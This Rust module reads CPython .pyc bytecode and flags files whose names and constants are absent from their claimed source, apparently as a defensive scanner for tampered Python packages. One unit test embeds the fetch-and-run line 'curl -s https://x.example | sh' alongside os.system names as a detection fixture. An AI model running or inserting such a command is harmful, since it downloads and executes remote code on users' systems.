//! CPython bytecode (`.pyc`): the marshal stream read far enough to list every code object's
//! names and constants, and a comparison with the source the file claims to be compiled from.
//!
//! Written by hand because no maintained crate reads the code objects of CPython 3.11 and later.
//! The reader is bounded (nesting, objects, lengths checked against the bytes left) and never
//! panics: a corrupt or truncated stream is an error that names the offset.
//!
//! The comparison does not need the matching CPython: every name a code object uses and every
//! word of its string constants must occur in the source (comment lines left out). Bytecode
//! compiled from another source brings names and words the source does not hold: the call it
//! hides (`system`, `b64decode`), the host it reaches. What it cannot see is the same words
//! rearranged (different control flow over the same names); comparing opcodes would need the
//! compiler of the exact version that wrote the file.

use std::collections::BTreeSet;
use std::rc::Rc;

/// Objects read per file at most, counting the copies references make.
const MAX_OBJECTS: usize = 1_000_000;
/// Containers nested at most (code objects in tuples in code objects…).
const MAX_NESTING: usize = 200;

/// Why a `.pyc` could not be read.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum BytecodeError {
    #[error("shorter than a bytecode header")]
    TooShort,
    #[error("magic number {0} is not CPython 3.7 or later")]
    UnknownMagic(u16),
    #[error("marshal stream ends early at byte {0}")]
    Truncated(usize),
    #[error("unknown marshal type {type_byte:#04x} at byte {at}")]
    UnknownType { type_byte: u8, at: usize },
    #[error("marshal reference {index} at byte {at} names no earlier object")]
    BadReference { index: usize, at: usize },
    #[error("marshal objects nested deeper than {MAX_NESTING}")]
    TooDeep,
    #[error("more than {MAX_OBJECTS} marshal objects")]
    TooMany,
    #[error("the top-level object is not a code object")]
    NotCode,
}

/// One code object (a module, a function, a class body, a comprehension).
#[derive(Debug, Default, Clone, PartialEq)]
pub struct CodeObject {
    pub name: String,
    /// Global and attribute names, local and free variable names, the qualified name.
    pub names: Vec<String>,
    /// String (and printable bytes) constants.
    pub strings: Vec<String>,
    pub children: Vec<CodeObject>,
}

impl CodeObject {
    /// This object and every one nested in it, depth first.
    pub fn walk(&self) -> Vec<&CodeObject> {
        let mut out = vec![self];
        let mut i = 0;
        while i < out.len() {
            let current = out[i];
            out.extend(current.children.iter());
            i += 1;
        }
        out
    }
}

/// A read `.pyc`.
#[derive(Debug, Clone, PartialEq)]
pub struct Pyc {
    pub magic: u16,
    /// The size of the source it was compiled from, as its header records it (timestamp-based
    /// files only).
    pub source_size: Option<u32>,
    pub module: CodeObject,
}

impl Pyc {
    /// Reads a `.pyc` file.
    pub fn parse(bytes: &[u8]) -> Result<Pyc, BytecodeError> {
        if bytes.len() < 16 {
            return Err(BytecodeError::TooShort);
        }
        let magic = u16::from_le_bytes([bytes[0], bytes[1]]);
        // 3390 is 3.7's first; 3.14 ends below 3700.
        if bytes[2..4] != *b"\r\n" || !(3390..3700).contains(&magic) {
            return Err(BytecodeError::UnknownMagic(magic));
        }
        let flags = u32::from_le_bytes(bytes[4..8].try_into().expect("4 bytes"));
        let source_size =
            (flags == 0).then(|| u32::from_le_bytes(bytes[12..16].try_into().expect("4 bytes")));
        let mut reader = Marshal {
            bytes,
            at: 16,
            refs: Vec::new(),
            objects: 0,
            layout: Layout::of(magic),
        };
        match reader.object(0)?.as_ref() {
            Obj::Code(code) => Ok(Pyc {
                magic,
                source_size,
                module: (**code).clone(),
            }),
            _ => Err(BytecodeError::NotCode),
        }
    }

    /// Every string constant and name of every code object, one per line: the text rules read
    /// when there is no source to read instead.
    pub fn constants_text(&self) -> String {
        let mut out = String::new();
        for code in self.module.walk() {
            for s in code.strings.iter().chain(code.names.iter()) {
                out.push_str(s);
                out.push('\n');
            }
        }
        out
    }

    /// The names and constant words this bytecode uses that `source` does not hold; empty when
    /// it could have been compiled from it.
    pub fn unexplained_by(&self, source: &str) -> Unexplained {
        // Names come from code, so comments cannot vouch for them; a constant's words may sit
        // anywhere in the source (a docstring's `# doctest` line is no comment).
        let code: String = source
            .lines()
            .map(without_comment)
            .collect::<Vec<_>>()
            .join("\n");
        let in_code: BTreeSet<&str> = words(&code).collect();
        let in_source: BTreeSet<&str> = words(source).collect();
        // Implicit concatenation (`"ab" "cd"`) makes a word no token holds: look for it with
        // quotes, spacing and comments taken out.
        let squashed: String = code
            .chars()
            .filter(|c| !matches!(c, '"' | '\'' | ' ' | '\t' | '\n' | '\r' | '\\' | '+'))
            .collect();
        let pieces: BTreeSet<&str> = source
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .filter(|w| w.len() >= 3 || !w.is_empty() && w.bytes().all(|b| b == b'_'))
            .collect();
        let (mut names_missing, mut missing) = (BTreeSet::new(), BTreeSet::new());
        for object in self.module.walk() {
            let names = object
                .names
                .iter()
                .chain(std::iter::once(&object.name))
                .flat_map(|n| n.split('.'))
                .filter(|part| !part.is_empty() && !part.starts_with('<'))
                .flat_map(words);
            for word in names.filter(|w| !(w.starts_with("__") && w.ends_with("__"))) {
                let unmangled = unmangled(word);
                if !in_code.contains(unmangled) && !squashed.contains(unmangled) {
                    names_missing.insert(word.to_string());
                }
            }
            for s in &object.strings {
                for word in words(&without_compiler_names(s)).filter(|w| w.len() >= 3) {
                    // `"\nWarning"` is the word `nWarning` in the source and `Warning` in the
                    // constant, or the other way round for a raw string.
                    let explained = |w: &str| in_source.contains(w) || squashed.contains(w);
                    if !explained(word)
                        && !explained(unmangled(word))
                        && !word
                            .get(1..)
                            .is_some_and(|rest| rest.len() >= 3 && explained(rest))
                        && !joined_from(word, &pieces)
                        && !compiler_word(word)
                    {
                        missing.insert(word.to_string());
                    }
                }
            }
        }
        Unexplained {
            names: names_missing.into_iter().collect(),
            words: missing.into_iter().collect(),
        }
    }
}

/// What a source does not explain of its bytecode.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Unexplained {
    /// Names (calls, attributes, variables) absent from the source's code.
    pub names: Vec<String>,
    /// Words of string constants absent from the source.
    pub words: Vec<String>,
}

impl Unexplained {
    pub fn is_empty(&self) -> bool {
        self.names.is_empty() && self.words.is_empty()
    }

    /// Another program: a name the source never uses, or several words it never holds. One
    /// stray word is within what compilers rewrite (escapes, regular expressions' `(?P<…>`).
    pub fn is_other_program(&self) -> bool {
        !self.names.is_empty() || self.words.len() >= 2
    }

    /// Every unexplained name and word.
    pub fn all(&self) -> Vec<String> {
        self.names.iter().chain(&self.words).cloned().collect()
    }
}

/// Whether `word` is source tokens of three characters or more (or underscores) written one
/// after another: adjacent literals (`b'ABC' b'xyz'`), folded `+`.
fn joined_from(word: &str, pieces: &BTreeSet<&str>) -> bool {
    if word.len() > 256 {
        return false;
    }
    let mut reachable = vec![false; word.len() + 1];
    reachable[0] = true;
    for start in 0..word.len() {
        if !reachable[start] {
            continue;
        }
        for end in start + 1..=word.len() {
            if pieces.contains(&word[start..end]) {
                reachable[end] = true;
            }
        }
    }
    reachable[word.len()]
}

/// Words the compiler writes into constants itself: the key of a return annotation, and
/// repetitions (`'u' * 4` and `'xy' * 40` are folded).
fn compiler_word(word: &str) -> bool {
    let periodic = (1..=word.len() / 2).any(|period| {
        word.len().is_multiple_of(period)
            && word
                .as_bytes()
                .chunks(period)
                .all(|c| c == &word.as_bytes()[..period])
    });
    word == "return" || periodic
}

/// A constant without the compiler's `<locals>`, `<lambda>`, `<genexpr>` parts of qualified
/// names, which 3.11 and later keep as constants.
fn without_compiler_names(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.contains('<') {
        return s.into();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(open) = rest.find('<') {
        out.push_str(&rest[..open]);
        let tail = &rest[open..];
        match tail.find('>') {
            Some(close) if tail[1..close].bytes().all(|b| b.is_ascii_lowercase()) => {
                rest = &tail[close + 1..];
            }
            _ => {
                out.push('<');
                rest = &tail[1..];
            }
        }
    }
    out.push_str(rest);
    out.into()
}

/// A private name as written in its class: `_Cache__lock` is `__lock` in `class Cache`.
fn unmangled(name: &str) -> &str {
    match name.strip_prefix('_').and_then(|rest| rest.find("__")) {
        Some(i) if i > 0 => &name[i + 1..],
        _ => name,
    }
}

/// A source line without its `#` comment, outside quotes (a line's own quotes only: a comment
/// sign inside a multi-line string cuts that line short, which can only leave words out).
fn without_comment(line: &str) -> &str {
    let mut quote = None;
    let mut escaped = false;
    for (i, c) in line.char_indices() {
        match (quote, c) {
            (Some(_), _) if escaped => escaped = false,
            (Some(_), '\\') => escaped = true,
            (Some(q), c) if c == q => quote = None,
            (None, '\'' | '"') => quote = Some(c),
            (None, '#') => return &line[..i],
            _ => {}
        }
    }
    line
}

/// Identifier-like words: runs of ASCII letters, digits and `_` that are not all digits.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty() && !w.bytes().all(|b| b.is_ascii_digit()))
}

#[derive(Debug)]
enum Obj {
    Str(String),
    Bytes(Vec<u8>),
    Seq(Vec<Rc<Obj>>),
    Code(Box<CodeObject>),
    /// Numbers, `None`, booleans and the like: nothing the comparison reads.
    Scalar,
    /// A slot reserved for an object still being read (a reference to it is a cycle).
    Pending,
}

#[derive(Clone, Copy)]
enum Layout {
    /// 3.7: argcount, kwonlyargcount, nlocals, stacksize, flags; varnames, freevars, cellvars.
    Py37,
    /// 3.8–3.10: positional-only argument count added.
    Py38,
    /// 3.11 and later: locals-plus names and kinds, qualified name, exception table.
    Py311,
}

impl Layout {
    fn of(magic: u16) -> Layout {
        match magic {
            ..3400 => Layout::Py37,
            3400..3450 => Layout::Py38,
            _ => Layout::Py311,
        }
    }
}

struct Marshal<'b> {
    bytes: &'b [u8],
    at: usize,
    refs: Vec<Rc<Obj>>,
    objects: usize,
    layout: Layout,
}

impl Marshal<'_> {
    fn take(&mut self, n: usize) -> Result<&[u8], BytecodeError> {
        let end = self
            .at
            .checked_add(n)
            .filter(|&end| end <= self.bytes.len())
            .ok_or(BytecodeError::Truncated(self.at))?;
        let slice = &self.bytes[self.at..end];
        self.at = end;
        Ok(slice)
    }

    fn u8(&mut self) -> Result<u8, BytecodeError> {
        Ok(self.take(1)?[0])
    }

    fn i32(&mut self) -> Result<i32, BytecodeError> {
        Ok(i32::from_le_bytes(
            self.take(4)?.try_into().expect("4 bytes"),
        ))
    }

    /// A length or count, which can never exceed the bytes left.
    fn len32(&mut self) -> Result<usize, BytecodeError> {
        let at = self.at;
        let n = self.i32()?;
        usize::try_from(n)
            .ok()
            .filter(|&n| n <= self.bytes.len() - self.at)
            .ok_or(BytecodeError::Truncated(at))
    }

    fn object(&mut self, depth: usize) -> Result<Rc<Obj>, BytecodeError> {
        if depth > MAX_NESTING {
            return Err(BytecodeError::TooDeep);
        }
        self.objects += 1;
        if self.objects > MAX_OBJECTS {
            return Err(BytecodeError::TooMany);
        }
        let at = self.at;
        let code = self.u8()?;
        let (flag_ref, type_byte) = (code & 0x80 != 0, code & 0x7f);
        let slot = flag_ref.then(|| {
            self.refs.push(Rc::new(Obj::Pending));
            self.refs.len() - 1
        });
        let obj = match type_byte {
            b'0' | b'N' | b'F' | b'T' | b'S' | b'.' => Rc::new(Obj::Scalar),
            b'i' => {
                self.take(4)?;
                Rc::new(Obj::Scalar)
            }
            b'l' => {
                let at = self.at;
                let digits = self.i32()?.unsigned_abs() as usize;
                let bytes = digits.checked_mul(2).ok_or(BytecodeError::Truncated(at))?;
                self.take(bytes)?;
                Rc::new(Obj::Scalar)
            }
            b'f' => {
                let n = self.u8()? as usize;
                self.take(n)?;
                Rc::new(Obj::Scalar)
            }
            b'g' => {
                self.take(8)?;
                Rc::new(Obj::Scalar)
            }
            b'x' => {
                for _ in 0..2 {
                    let n = self.u8()? as usize;
                    self.take(n)?;
                }
                Rc::new(Obj::Scalar)
            }
            b'y' => {
                self.take(16)?;
                Rc::new(Obj::Scalar)
            }
            b's' => {
                let n = self.len32()?;
                Rc::new(Obj::Bytes(self.take(n)?.to_vec()))
            }
            b't' | b'u' | b'a' | b'A' => {
                let n = self.len32()?;
                Rc::new(Obj::Str(
                    String::from_utf8_lossy(self.take(n)?).into_owned(),
                ))
            }
            b'z' | b'Z' => {
                let n = self.u8()? as usize;
                Rc::new(Obj::Str(
                    String::from_utf8_lossy(self.take(n)?).into_owned(),
                ))
            }
            b')' => {
                let n = self.u8()? as usize;
                self.sequence(n, depth)?
            }
            b'(' | b'[' | b'<' | b'>' => {
                let n = self.len32()?;
                self.sequence(n, depth)?
            }
            b'{' => {
                let mut items = Vec::new();
                loop {
                    if self.bytes.get(self.at) == Some(&b'0') {
                        self.at += 1;
                        break;
                    }
                    items.push(self.object(depth + 1)?);
                    items.push(self.object(depth + 1)?);
                }
                Rc::new(Obj::Seq(items))
            }
            // A slice constant (3.14).
            b':' => self.sequence(3, depth)?,
            b'r' => {
                let index = self.i32()? as u32 as usize;
                let obj = self
                    .refs
                    .get(index)
                    .cloned()
                    .ok_or(BytecodeError::BadReference { index, at })?;
                if matches!(*obj, Obj::Pending) {
                    return Err(BytecodeError::BadReference { index, at });
                }
                obj
            }
            b'c' => Rc::new(Obj::Code(Box::new(self.code(depth)?))),
            _ => return Err(BytecodeError::UnknownType { type_byte, at }),
        };
        if let Some(slot) = slot {
            self.refs[slot] = obj.clone();
        }
        Ok(obj)
    }

    fn sequence(&mut self, n: usize, depth: usize) -> Result<Rc<Obj>, BytecodeError> {
        let mut items = Vec::with_capacity(n.min(4096));
        for _ in 0..n {
            items.push(self.object(depth + 1)?);
        }
        Ok(Rc::new(Obj::Seq(items)))
    }

    fn code(&mut self, depth: usize) -> Result<CodeObject, BytecodeError> {
        let ints = match self.layout {
            Layout::Py37 | Layout::Py311 => 5,
            Layout::Py38 => 6,
        };
        self.take(4 * ints)?;
        let mut code = CodeObject::default();
        let _bytecode = self.object(depth + 1)?;
        let consts = self.object(depth + 1)?;
        collect_constants(&consts, &mut code, 0);
        let mut name_lists = vec![self.object(depth + 1)?, self.object(depth + 1)?];
        match self.layout {
            Layout::Py37 | Layout::Py38 => {
                name_lists.push(self.object(depth + 1)?);
                name_lists.push(self.object(depth + 1)?);
                let _filename = self.object(depth + 1)?;
                code.name = text_of(&*self.object(depth + 1)?);
                self.take(4)?;
                let _line_table = self.object(depth + 1)?;
            }
            Layout::Py311 => {
                // names, localsplusnames read above; then localspluskinds (bytes).
                let _kinds = self.object(depth + 1)?;
                let _filename = self.object(depth + 1)?;
                code.name = text_of(&*self.object(depth + 1)?);
                name_lists.push(self.object(depth + 1)?);
                self.take(4)?;
                let _line_table = self.object(depth + 1)?;
                let _exception_table = self.object(depth + 1)?;
            }
        }
        for list in &name_lists {
            match list.as_ref() {
                Obj::Seq(items) => code.names.extend(items.iter().map(|i| text_of(i))),
                Obj::Str(s) => code.names.push(s.clone()),
                _ => {}
            }
        }
        code.names.retain(|n| !n.is_empty());
        Ok(code)
    }
}

fn text_of(obj: &Obj) -> String {
    match obj {
        Obj::Str(s) => s.clone(),
        _ => String::new(),
    }
}

fn collect_constants(obj: &Obj, code: &mut CodeObject, depth: usize) {
    if depth > MAX_NESTING {
        return;
    }
    match obj {
        Obj::Str(s) => code.strings.push(s.clone()),
        Obj::Bytes(b)
            if b.iter()
                .all(|c| c.is_ascii_graphic() || c.is_ascii_whitespace()) =>
        {
            code.strings.push(String::from_utf8_lossy(b).into_owned())
        }
        Obj::Seq(items) => items
            .iter()
            .for_each(|i| collect_constants(i, code, depth + 1)),
        Obj::Code(child) => code.children.push((**child).clone()),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A 3.12 header, then a module code object holding `consts` and `names`.
    fn pyc_312(consts: &[&str], names: &[&str]) -> Vec<u8> {
        let mut b = vec![0xcb, 0x0d, b'\r', b'\n', 0, 0, 0, 0, 0, 0, 0, 0, 9, 0, 0, 0];
        b.push(b'c');
        b.extend([0u8; 20]);
        let short_str = |b: &mut Vec<u8>, s: &str| {
            b.push(b'z');
            b.push(s.len() as u8);
            b.extend(s.as_bytes());
        };
        b.extend([b's', 2, 0, 0, 0, 0x97, 0x00]);
        b.push(b')');
        b.push(consts.len() as u8);
        for c in consts {
            short_str(&mut b, c);
        }
        b.push(b')');
        b.push(names.len() as u8);
        for n in names {
            short_str(&mut b, n);
        }
        b.extend([b')', 0]); // localsplusnames
        b.extend([b's', 0, 0, 0, 0]); // localspluskinds
        short_str(&mut b, "x.py");
        short_str(&mut b, "<module>");
        short_str(&mut b, "<module>");
        b.extend([1, 0, 0, 0]);
        b.extend([b's', 0, 0, 0, 0]);
        b.extend([b's', 0, 0, 0, 0]);
        b
    }

    #[test]
    fn reads_names_and_constants_of_a_312_module() {
        let pyc = Pyc::parse(&pyc_312(&["hello world"], &["print"])).unwrap();
        assert_eq!(pyc.module.strings, ["hello world"]);
        assert_eq!(pyc.module.names, ["print", "<module>"]);
        assert_eq!(pyc.source_size, Some(9));
        assert!(pyc.unexplained_by("print('hello world')\n").is_empty());
    }

    #[test]
    fn bytecode_of_another_source_is_unexplained() {
        let pyc = Pyc::parse(&pyc_312(
            &["curl -s https://x.example | sh"],
            &["os", "system"],
        ))
        .unwrap();
        let missing = pyc.unexplained_by("import os\nprint('hello')\n# system curl\n");
        // Words of constants may sit in comments (docstrings hold `#` lines); names may not.
        assert_eq!(missing.names, ["system"]);
        assert_eq!(missing.words, ["example", "https"]);
        assert!(missing.is_other_program());
    }

    #[test]
    fn every_truncation_is_an_error_never_a_panic() {
        let whole = pyc_312(&["a constant"], &["name"]);
        for end in 0..whole.len() {
            assert!(Pyc::parse(&whole[..end]).is_err(), "{end}");
        }
    }

    #[test]
    fn a_reference_to_an_unread_object_is_refused() {
        let mut b = pyc_312(&[], &[]);
        b.truncate(16);
        b.extend([b'r', 5, 0, 0, 0]);
        assert!(matches!(
            Pyc::parse(&b),
            Err(BytecodeError::BadReference { .. })
        ));
    }

    #[test]
    fn implicit_concatenation_is_explained() {
        let pyc = Pyc::parse(&pyc_312(&["abcdef"], &[])).unwrap();
        assert!(pyc.unexplained_by("x = 'abc' 'def'\n").is_empty());
    }
}

#[cfg(test)]
mod real_files {
    /// Reads every `.pyc` below `SKILLGATE_PYC_DIR` (a Python installation's `__pycache__`
    /// folders) and compares each with its source: run by hand against each CPython version.
    #[test]
    #[ignore = "needs SKILLGATE_PYC_DIR"]
    fn every_pyc_of_an_installation_reads_and_matches_its_source() {
        let root = std::env::var("SKILLGATE_PYC_DIR").expect("SKILLGATE_PYC_DIR");
        let (mut read, mut mismatched) = (0, Vec::new());
        let mut stack = vec![std::path::PathBuf::from(root)];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).unwrap().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    stack.push(path);
                } else if path.extension().is_some_and(|e| e == "pyc")
                    // CPython's own test suite writes adversarial literals on purpose.
                    && !path.to_string_lossy().contains("/test")
                {
                    let pyc = super::Pyc::parse(&std::fs::read(&path).unwrap())
                        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                    read += 1;
                    let source = crate::source_of(&path.to_string_lossy()).unwrap();
                    if let Ok(text) = std::fs::read_to_string(&source) {
                        let missing = pyc.unexplained_by(&text);
                        if missing.is_other_program() {
                            mismatched.push(format!("{source}: {:?}", missing.all()));
                        }
                    }
                }
            }
        }
        assert!(read > 0);
        // Names are looked for outside `#` comments, found line by line: a `#` inside a
        // multi-line string hides the rest of its line (1 file in 10,669 of CPython 3.11's
        // standard library and site-packages).
        assert!(
            mismatched.len() * 1000 <= read,
            "{read} read; {mismatched:#?}"
        );
    }
}
